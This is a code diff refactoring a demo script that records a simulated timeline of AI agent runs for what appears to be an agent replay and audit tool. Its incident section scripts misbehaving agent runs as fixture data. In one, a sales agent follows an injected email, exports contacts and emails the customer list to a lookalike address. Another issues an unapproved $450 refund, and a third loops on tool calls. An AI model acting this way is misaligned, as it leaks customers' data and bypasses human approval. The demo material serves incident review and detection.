@@ -12,10 +12,11 @@ Incident (a few hours ago), after prompt v5 shipped without its outside-email gu
 from __future__ import annotations
 
 import time
-from contextlib import AbstractContextManager
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from importlib.resources import files
 from pathlib import Path
+from typing import Any
 
 import psycopg
 
@@ -28,7 +29,7 @@ from replay.policy import load_pack
 from replay.undo.contracts import ContractRegistry, load_contracts
 from replay.undo.examples import CONTRACTS_DIR
 
-__all__ = ["Story", "record_story"]
+__all__ = ["TIMELINE", "Scene", "Story", "record_story"]
 
 HOUR = 3600 * 1_000_000_000
 DAY = 24 * HOUR
@@ -63,6 +64,178 @@ def registry() -> ContractRegistry:
     )
 
 
+@dataclass(frozen=True)
+class Scene:
+    """One step of the timeline: at `offset` from now, publish a policy or record an agent run.
+
+    `policy` names the pack in force (a run records its hash); `incident` names the run in the
+    incident report. Keeping the timeline as data lets a reader see the whole story at a glance.
+    """
+
+    offset: int
+    policy: str
+    agent: str = ""
+    args: dict[str, Any] = field(default_factory=dict)
+    publish: str = ""
+    incident: str = ""
+
+
+def _email(to: str, subject: str, body: str) -> list[tuple[str, dict[str, Any]]]:
+    return [("email.send", {"to": to, "subject": subject, "body": body})]
+
+
+def _crm(record: str, name: str, value: str) -> list[tuple[str, dict[str, Any]]]:
+    return [("crm.update_field", {"record_id": record, "field": name, "value": value})]
+
+
+TIMELINE: tuple[Scene, ...] = (
+    Scene(-3 * DAY, "v1", publish="sales-support-v1.yaml"),
+    Scene(
+        -3 * DAY + 2 * HOUR,
+        "v1",
+        "sales_ops",
+        {
+            "user": "alice@example.com",
+            "prompt_version": "v4",
+            "model": "gpt-4o-mini",
+            "request": "Move Acme to negotiation and follow up with Jane.",
+            "request_trust": "trusted",
+            "request_origin": "chat:alice",
+            "steps": [
+                _crm("acme", "status", "negotiation"),
+                _email(
+                    "jane@acme-corp.com",
+                    "Next steps",
+                    "Hi Jane, thanks for the call. Proposal attached.",
+                ),
+            ],
+            "final": "Acme moved to negotiation; follow-up sent to Jane.",
+        },
+    ),
+    Scene(
+        -3 * DAY + 3 * HOUR,
+        "v1",
+        "support",
+        {
+            "user": "bob@example.com",
+            "prompt_version": "v2",
+            "model": "gpt-4o-mini",
+            "request": "My headphones arrived broken (order 1042).",
+            "order_id": "1042",
+            "refund_usd": "49.90",
+        },
+    ),
+    Scene(
+        -3 * DAY + 5 * HOUR,
+        "v1",
+        "support",
+        {
+            "user": "carol@example.com",
+            "prompt_version": "v2",
+            "model": "gpt-4o-mini",
+            "request": "The sofa (order 2211) was never delivered.",
+            "order_id": "2211",
+            "refund_usd": "320.00",
+            "approver": ("dana@example.com", ["finance_lead"]),
+        },
+    ),
+    Scene(-2 * DAY, "v2", publish="sales-support-v2.yaml"),
+    Scene(
+        -2 * DAY + 4 * HOUR,
+        "v2",
+        "sales_ops",
+        {
+            "user": "alice@example.com",
+            "prompt_version": "v4",
+            "model": "gpt-4.1-mini",
+            "request": "Upgrade Initech to silver and tell Bill.",
+            "request_trust": "trusted",
+            "request_origin": "chat:alice",
+            "steps": [
+                _crm("initech", "tier", "silver"),
+                _email(
+                    "bill@initech.com",
+                    "Your new tier",
+                    "Hi Bill, Initech is now on our silver tier.",
+                ),
+            ],
+            "final": "Initech upgraded; Bill informed.",
+        },
+    ),
+    Scene(
+        -2 * DAY + 6 * HOUR,
+        "v2",
+        "support",
+        {
+            "user": "bob@example.com",
+            "prompt_version": "v2",
+            "model": "gpt-4.1-mini",
+            "request": "Where is order 3301?",
+            "order_id": "3301",
+            "refund_usd": None,
+        },
+    ),
+    # --- the incident --------------------------------------------------------------------------
+    Scene(
+        -3 * HOUR,
+        "v2",
+        "sales_ops",
+        incident="prompt_injection",
+        args={
+            "user": "carol@example.com",
+            "prompt_version": "v5",
+            "model": "gpt-4.1-mini",
+            "request": INJECTION,
+            "request_trust": "untrusted",
+            "request_origin": "email:inbox",
+            "steps": [
+                [("crm.export_contacts", {})],
+                _crm("globex", "status", "closed-lost"),
+                _email(
+                    "ceo.office@gmai1.com",
+                    "Customer list",
+                    "As requested: acme (jane@acme-corp.com), globex "
+                    "(hank@globex.com), initech (bill@initech.com).",
+                ),
+            ],
+            "final": "Done: customer list sent to the CEO.",
+        },
+    ),
+    Scene(
+        -2 * HOUR,
+        "v2",
+        "support",
+        incident="refund_without_approval",
+        args={
+            "user": "bob@example.com",
+            "prompt_version": "v2",
+            "model": "gpt-4.1-mini",
+            "request": "I want my money back for order 5150, $450.",
+            "order_id": "5150",
+            "refund_usd": "450.00",
+        },
+    ),
+    Scene(
+        -1 * HOUR,
+        "v2",
+        "support",
+        incident="tool_loop",
+        args={
+            "user": "erin@example.com",
+            "prompt_version": "v2",
+            "model": "gpt-4.1",
+            "request": "Status of order 7777? (repeat until sure)",
+            "order_id": "7777",
+            "refund_usd": None,
+            "lookups": 12,
+            "tokens": 9000,
+        },
+    ),
+)
+
+_AGENTS: dict[str, Callable[..., hooks.Run]] = {"sales_ops": run_sales_ops, "support": run_support}
+
+
 def record_story(settings: Settings, conn: psycopg.Connection) -> Story:
     """Record the whole timeline; returns the run ids (the demo can run again: new runs)."""
     world = World(settings)
@@ -70,196 +243,17 @@ def record_story(settings: Settings, conn: psycopg.Connection) -> Story:
     hooks.configure(settings)
     now = time.time_ns()
     story = Story(since=now - 4 * DAY, until=now + HOUR)
-    v1 = load_pack(policy_file("sales-support-v1.yaml"))
-    v2 = load_pack(policy_file("sales-support-v2.yaml"))
-
-    def at(offset_ns: int) -> AbstractContextManager[None]:
-        return ids.simulated_clock(now + offset_ns, step_ns=300_000_000)
-
-    def keep(run: hooks.Run) -> str:
-        story.runs.append(str(run.run_id))
-        return str(run.run_id)
-
-    with at(-3 * DAY):
-        publish_policy(conn, settings, v1)
-        story.policies["v1"] = v1.policy_hash
-    with at(-3 * DAY + 2 * HOUR):
-        keep(
-            run_sales_ops(
-                world,
-                contracts,
-                user="alice@example.com",
-                prompt_version="v4",
-                model="gpt-4o-mini",
-                policy_hash=story.policies["v1"],
-                request="Move Acme to negotiation and follow up with Jane.",
-                request_trust="trusted",
-                request_origin="chat:alice",
-                steps=[
-                    [
-                        (
-                            "crm.update_field",
-                            {"record_id": "acme", "field": "status", "value": "negotiation"},
-                        )
-                    ],
-                    [
-                        (
-                            "email.send",
-                            {
-                                "to": "jane@acme-corp.com",
-                                "subject": "Next steps",
-                                "body": "Hi Jane, thanks for the call. Proposal attached.",
-                            },
-                        )
-                    ],
-                ],
-                final="Acme moved to negotiation; follow-up sent to Jane.",
-            )
-        )
-    with at(-3 * DAY + 3 * HOUR):
-        keep(
-            run_support(
-                world,
-                contracts,
-                user="bob@example.com",
-                prompt_version="v2",
-                model="gpt-4o-mini",
-                policy_hash=story.policies["v1"],
-                request="My headphones arrived broken (order 1042).",
-                order_id="1042",
-                refund_usd="49.90",
-            )
-        )
-    with at(-3 * DAY + 5 * HOUR):
-        keep(
-            run_support(
-                world,
-                contracts,
-                user="carol@example.com",
-                prompt_version="v2",
-                model="gpt-4o-mini",
-                policy_hash=story.policies["v1"],
-                request="The sofa (order 2211) was never delivered.",
-                order_id="2211",
-                refund_usd="320.00",
-                approver=("dana@example.com", ["finance_lead"]),
-            )
-        )
-    with at(-2 * DAY):
-        publish_policy(conn, settings, v2)
-        story.policies["v2"] = v2.policy_hash
-    with at(-2 * DAY + 4 * HOUR):
-        keep(
-            run_sales_ops(
-                world,
-                contracts,
-                user="alice@example.com",
-                prompt_version="v4",
-                model="gpt-4.1-mini",
-                policy_hash=story.policies["v2"],
-                request="Upgrade Initech to silver and tell Bill.",
-                request_trust="trusted",
-                request_origin="chat:alice",
-                steps=[
-                    [
-                        (
-                            "crm.update_field",
-                            {"record_id": "initech", "field": "tier", "value": "silver"},
-                        )
-                    ],
-                    [
-                        (
-                            "email.send",
-                            {
-                                "to": "bill@initech.com",
-                                "subject": "Your new tier",
-                                "body": "Hi Bill, Initech is now on our silver tier.",
-                            },
-                        )
-                    ],
-                ],
-                final="Initech upgraded; Bill informed.",
-            )
-        )
-    with at(-2 * DAY + 6 * HOUR):
-        keep(
-            run_support(
-                world,
-                contracts,
-                user="bob@example.com",
-                prompt_version="v2",
-                model="gpt-4.1-mini",
-                policy_hash=story.policies["v2"],
-                request="Where is order 3301?",
-                order_id="3301",
-                refund_usd=None,
-            )
-        )
-    # --- the incident -------------------------------------------------------------------------
-    with at(-3 * HOUR):
-        story.incident["prompt_injection"] = keep(
-            run_sales_ops(
-                world,
-                contracts,
-                user="carol@example.com",
-                prompt_version="v5",
-                model="gpt-4.1-mini",
-                policy_hash=story.policies["v2"],
-                request=INJECTION,
-                request_trust="untrusted",
-                request_origin="email:inbox",
-                steps=[
-                    [("crm.export_contacts", {})],
-                    [
-                        (
-                            "crm.update_field",
-                            {"record_id": "globex", "field": "status", "value": "closed-lost"},
-                        )
-                    ],
-                    [
-                        (
-                            "email.send",
-                            {
-                                "to": "ceo.office@gmai1.com",
-                                "subject": "Customer list",
-                                "body": "As requested: acme (jane@acme-corp.com), globex "
-                                "(hank@globex.com), initech (bill@initech.com).",
-                            },
-                        )
-                    ],
-                ],
-                final="Done: customer list sent to the CEO.",
-            )
-        )
-    with at(-2 * HOUR):
-        story.incident["refund_without_approval"] = keep(
-            run_support(
-                world,
-                contracts,
-                user="bob@example.com",
-                prompt_version="v2",
-                model="gpt-4.1-mini",
-                policy_hash=story.policies["v2"],
-                request="I want my money back for order 5150, $450.",
-                order_id="5150",
-                refund_usd="450.00",
-            )
-        )
-    with at(-1 * HOUR):
-        story.incident["tool_loop"] = keep(
-            run_support(
-                world,
-                contracts,
-                user="erin@example.com",
-                prompt_version="v2",
-                model="gpt-4.1",
-                policy_hash=story.policies["v2"],
-                request="Status of order 7777? (repeat until sure)",
-                order_id="7777",
-                refund_usd=None,
-                lookups=12,
-                tokens=9000,
-            )
-        )
+    for scene in TIMELINE:
+        with ids.simulated_clock(now + scene.offset, step_ns=300_000_000):
+            if scene.publish:
+                pack = load_pack(policy_file(scene.publish))
+                publish_policy(conn, settings, pack)
+                story.policies[scene.policy] = pack.policy_hash
+                continue
+            agent = _AGENTS[scene.agent]
+            run = agent(world, contracts, policy_hash=story.policies[scene.policy], **scene.args)
+            story.runs.append(str(run.run_id))
+            if scene.incident:
+                story.incident[scene.incident] = str(run.run_id)
     hooks.flush()
     return story
